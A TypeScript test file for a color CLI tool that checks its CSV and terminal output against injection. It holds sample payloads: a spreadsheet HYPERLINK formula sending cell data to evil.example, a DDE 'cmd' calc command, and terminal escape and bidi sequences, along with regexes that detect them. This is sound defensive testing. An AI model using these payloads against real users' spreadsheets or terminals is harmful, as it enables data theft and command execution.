/*
 * The output of the command line attacked: input that a spreadsheet would run as a formula or a terminal would obey.
 */

import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { escapeLine, escapeJson, escapeLines } from '../../src/cli/cells.ts';
import { randomFrom } from '../../src/math/random.ts';
import { below, pick } from '../support/arbitrary.ts';
import { tincture } from '../support/cli.ts';
import { readTable } from '../support/csv.ts';

const cells = suite('a table that is opened in a spreadsheet');

const readInputs = (table: string): string[] => readTable(table).slice(1).map(([input]) => input!);

const asTable = async (lines: readonly string[]): Promise<string> =>
	(await tincture(['parse-color', '-', '--csv'], { input: [lines.join('\n')] })).out;

/** Characters that begin a formula in spreadsheets. */
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

cells('a cell that a spreadsheet would run begins with an apostrophe, with anything before the sign', async () => {
	const bodies = ['HYPERLINK("http://evil.example?"&A1,"x")', 'cmd|\' /C calc\'!A0', '1+1', 'SUM(1;2)', '', 'x,y', '"quoted"', 'a\rb'];
	const lines = SIGNS.flatMap((sign) => ['', ' ', '"', '" "', '\u00a0', '  "'].flatMap((before) =>
		bodies.map((body) => `${before}${sign}${body}`))).filter((line) => line.trim() !== '' && !line.endsWith('\r'));
	const inputs = readInputs(await asTable(lines));
	assert.equal(inputs, lines.map((line) => `'${line}`));
	for (const row of readTable(await asTable(lines))) for (const cell of row) assert.not.match(cell, FORMULA);
});

const FORMULA = /^[\s"]*[=+\-@＝＋－＠\t\r\n](?![\d.]+$)/;

cells('negative numbers stay numbers, and only they may begin with a sign', async () => {
	const numbers = ['-12.5', '-5', '-.5', '-0', '-1e9', '-1.5E-7', '-7.'];
	assert.equal(readInputs(await asTable(numbers)), numbers);
	const texts = ['-', '--5', '-5deg', '-5%', '-1e', '-1-1', '-.', '- 5', '+5', '-5+cmd', '-Infinity', '-0x10', '-5\t'];
	assert.equal(readInputs(await asTable(texts)), texts.map((one) => `'${one}`));
	// A color with negative channels, each in a separate column.
	const [head, row] = readTable((await tincture(['parse-color', 'oklab(0.5 -0.1 -0.2)', '--csv'])).out);
	const negative = head!.map((name, i) => [name, row![i]!] as const).filter(([, value]) => /^-/.test(value));
	assert.ok(negative.length > 0);
	for (const [name, value] of negative) assert.match(value, /^-[\d.]+$/, name);
});

cells('what needs quotes has them: commas, quotes, semicolons, tabs, and each kind of line end', async () => {
	for (const inside of [',', '"', ';', '\t', '\r', '\r\r']) {
		const table = await asTable([`a${inside}b`]);
		assert.ok(table.split('\r\n')[1]!.startsWith(`"a${inside.replaceAll('"', '""')}b",`), JSON.stringify(inside));
		assert.equal(readInputs(table), [`a${inside}b`]);
	}
	const { out } = await tincture(['parse-color', 'a\nb', '--csv']);
	assert.is(out, '', 'one input that is wrong has no table');
	const { out: names } = await tincture(['audit-palette', 'red=#f00', 'x=blue', '--csv']);
	readTable(names);
});

/** Characters that act on a terminal or turn the direction of text, with tabs and line ends left out. */
const HARMFUL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]/;

const ATTACKS = [
	'\u001b[31mred', '\u001b]0;title\u0007', '\u001b]8;;http://evil.example\u001b\\link', '\u009b31m', '\u009d0;x\u009c', '\b\b\b', '\0',
	'\u007f', '\u202ered', '\u2066x\u2069', '\u200b', '\u2028', '\ufeff', '\u001bc', '\u001b[2J', '\u0085', '\u{e0041}',
];

cells('a table has no control characters but its line ends', async () => {
	const table = await asTable(ATTACKS.flatMap((attack) => [attack, `teal${attack}`, `=${attack}`, `"${attack}`]));
	assert.not.match(table, HARMFUL);
	readTable(table);
});

cells.run();

const terminal = suite('a terminal that shows what was sent');

/** A theme whose tokens are named like the attacks, with control characters as JSON escapes. */
const theme = (): string => JSON.stringify(Object.fromEntries(ATTACKS.flatMap((attack, i) => [
	[`${attack}card${i}`, { $type: 'color', $value: '#ffffff' }], [`${attack}card${i}-foreground`, { $type: 'color', $value: '#eeeeee' }],
	[`=${attack}${i}`, { $type: 'color', $value: `nonsense ${attack}` }],
])));

/** Escapes of color, and those of the line of progress. */
const OURS = /\u001b\[[\d;]*[mK]/g;

terminal('no output of any form controls the terminal', async () => {
	const files = { 'theme.json': theme(), 'attacks.txt': ATTACKS.join('\n') };
	const words = [
		...ATTACKS.flatMap((attack) => [
			['parse-color', attack], [attack], [attack, '--json'], ['parse-color', 'teal', attack], ['parse-color', 'teal', `--${attack}`],
			['find-colors', attack], ['find-colors', attack, '--json'], ['mix-colors', 'red', 'blue', '--space', attack],
			['export-tokens', `${attack}=teal`, '--json'], ['export-tokens', `${attack}=teal`], ['parse-color', `@${attack}`],
			['parse-color', 'var(--a)', '--variables', `--a=${attack}`], ['help', attack], ['completions', attack], ['mcp', attack], ['serve', attack],
			['convert-color', 'teal', '--locale', attack], ['audit-palette', `red${attack}`, 'blue'], ['parse-color', 'teal', '-o', `no/${attack}`],
		]),
		['audit-theme', '@theme.json'], ['audit-theme', '@theme.json', '--json'], ['audit-theme', '@theme.json', '--csv'],
		['audit-theme', '@theme.json', '--format', 'sarif'], ['audit-theme', '@theme.json', '--format', 'sarif', '--code'],
		['audit-theme', '@theme.json', '--repair', '--code'], ['audit-palette', '@attacks.txt'], ['parse-color', '@attacks.txt', '--csv'],
	];
	for (const one of words) for (const environment of [{ FORCE_COLOR: '3' }, { NO_COLOR: '1', LANG: 'ru_RU.UTF-8' }]) {
		const { out, err } = await tincture(one, { files, environment, columns: 80 });
		assert.not.match((out + err).replace(OURS, '').replaceAll('\r\n', '\n'), HARMFUL, JSON.stringify(one));
	}
});

terminal('lines that are streamed to it are harmless in JSON and in a table', async () => {
	for (const form of [[], ['--csv']]) {
		const { out, err } = await tincture(['parse-color', '-', ...form], { input: [ATTACKS.join('\n')], columns: 80 });
		assert.not.match((out + err).replaceAll('\r\n', '\n'), HARMFUL);
	}
});

terminal('a file or a pipe gets the JSON of the API unchanged, and SARIF with the same value', async () => {
	const { out } = await tincture(['find-colors', 'x\u009b\u202e', '--json']);
	assert.match(out, 'x\u009b\u202e');
	const displayed = await tincture(['find-colors', 'x\u009b\u202e', '--json'], { columns: 80 });
	assert.not.match(displayed.out, HARMFUL);
	assert.equal(JSON.parse(displayed.out), JSON.parse(out));
	const files = { 'theme.json': theme() }, sarif = await tincture(['audit-theme', '@theme.json', '--format', 'sarif'], { files });
	assert.not.match(sarif.out, HARMFUL);
	const answer = await tincture(['audit-theme', '@theme.json', '--format', 'sarif', '--json'], { files });
	assert.equal(JSON.parse(sarif.out), JSON.parse((JSON.parse(answer.out) as { code: string }).code));
});

terminal('a binary file is not printed to a terminal, and the message says where to write it', async () => {
	const files = { ase: 'swatches.ase', aco: 'swatches.aco', procreate: 'tokens.swatches', kpl: 'swatches.kpl' };
	for (const [format, file] of Object.entries(files)) {
		const words = ['export-tokens', 'teal', '--format', format, '--code'], { out, err, code } = await tincture(words, { columns: 80 });
		assert.equal([out, code], ['', 1], format);
		assert.match(err, `Write -o ${file}, or redirect the output.`);
		// Elsewhere the bytes are printed: each of these files begins with a letter, a zero or "PK".
		assert.match((await tincture(words)).out, /^[\0A-Z]/, format);
	}
});

terminal('escaped text keeps what it says, and escaped JSON its value', () => {
	const seed = 'escapes', random = randomFrom(seed), pieces = [...ATTACKS, 'a', '\n', '\t', '"', '\\', 'é', '🎨', '\ud800'];
	for (let i = 0; i < 500; i++) {
		const attack = Array.from({ length: below(random, 8) }, () => pick(random, pieces)).join('');
		assert.not.match(escapeLine(attack), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u, `seed ${seed}, ${i}`);
		assert.equal(escapeLines(attack).match(/[\t\n]/g), attack.match(/[\t\n]/g), `seed ${seed}, ${i}`);
		assert.is(escapeLines(`a\r\nb\rc\r`), 'a\r\nb\\u{d}c\\u{d}');
		const json = escapeJson(JSON.stringify({ attack }, null, 2));
		assert.not.match(json, HARMFUL, `seed ${seed}, ${i}`);
		assert.equal(JSON.parse(json), { attack }, `seed ${seed}, ${i}`);
	}
});

terminal.run();
